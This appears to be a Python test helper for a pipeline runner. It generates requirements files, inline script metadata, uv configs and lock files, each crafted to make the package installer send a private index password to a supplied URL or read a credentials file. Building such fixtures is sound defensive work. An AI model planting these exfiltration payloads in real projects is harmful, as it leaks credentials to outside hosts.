"""What pipelines may try in order to get at credentials of the runner's package indexes."""

from typing import Literal

from fastflow_runner.testing.private_index import LURE, PACKAGE, USER, WHEEL

Source = Literal["none", "pep723", "uv_lock", "requirements_lock", "requirements"]


def attacks(url: str) -> dict[str, tuple[Source, dict[str, str]]]:
    """Ways to have the password of the index `house` sent to `url`, as files; the first one names the packages."""
    name, secret = PACKAGE.replace("_", "-"), "${UV_INDEX_HOUSE_PASSWORD}"
    index = f'[[tool.uv.index]]\nname = "house"\nurl = "{url}/locked/simple"\nauthenticate = "always"\n'
    named = f'dependencies = ["{name}"]\n[tool.uv.sources]\n{name} = {{ index = "house" }}\n{index}explicit = true\n'
    unplaced = named.replace('"house"', '"other"').replace('authenticate = "always"\n', "")
    lure = f"{LURE} @ {url}/files/{LURE}-1.0-py3-none-any.whl"
    locked = (
        f'version = 1\nrequires-python = ">=3.11"\n[[package]]\nname = "{name}"\nversion = "1.0"\n'
        f'source = {{ registry = "{url}/locked/simple" }}\n'
        f'wheels = [{{ url = "{url}/locked/{secret}/{WHEEL}", hash = "sha256:{"0" * 64}" }}]\n'
        '[[package]]\nname = "root"\nversion = "0"\nsource = { virtual = "." }\n'
        f'dependencies = [{{ name = "{name}" }}]\n'
    )
    project = f'[project]\nname = "root"\nversion = "0"\nrequires-python = ">=3.11"\n{named}'
    return {
        "an index": ("requirements", {"requirements.txt": f"--extra-index-url {url}/{secret}/simple\n{name}\n"}),
        "an address": ("requirements", {"requirements.txt": f"{name} @ {url}/{secret}/{WHEEL}\n"}),
        "links": ("requirements", {"requirements.txt": f"--find-links {url}/{secret}/\n{name}\n"}),
        "a file": ("requirements", {"requirements.txt": "-r a.txt\n", "a.txt": f"-i {url}/{secret}/\n{name}\n"}),
        "constraints": ("requirements", {"requirements.txt": f"-c {url}/{secret}/c.txt\n{name}\n"}),
        "a place": ("requirements", {"requirements.txt": "-r ${UV_CREDENTIALS_DIR}/credentials.toml\n"}),
        "a user": ("requirements", {"requirements.txt": f"-i {url.replace('//', f'//{USER}@')}/locked/\n{name}\n"}),
        "a package": ("requirements", {"requirements.txt": f"{lure}\n"}),
        "a block": ("pep723", {"main.py": _block(f'dependencies = ["{name} @ {url}/{secret}/{WHEEL}"]\n')}),
        "a name": ("pep723", {"main.py": _block(named)}),
        "a name that has no address": ("pep723", {"main.py": _block(unplaced)}),
        "a default": ("pep723", {"main.py": _block(f'dependencies = ["{name}"]\n{index}default = true\n')}),
        "links of a block": (
            "pep723",
            {"main.py": _block(f'dependencies = ["{name}"]\n[tool.uv]\nfind-links = ["{url}/{secret}/"]\n')},
        ),
        "a file of uv's": (
            "requirements",
            {"requirements.txt": f"{name}\n", "uv.toml": index.replace("tool.uv.", "")},
        ),
        "a lock": ("uv_lock", {"uv.lock": locked, "pyproject.toml": project}),
    }


def _block(text: str) -> str:
    return "# /// script\n" + "".join(f"# {line}\n" for line in text.splitlines()) + "# ///\n"
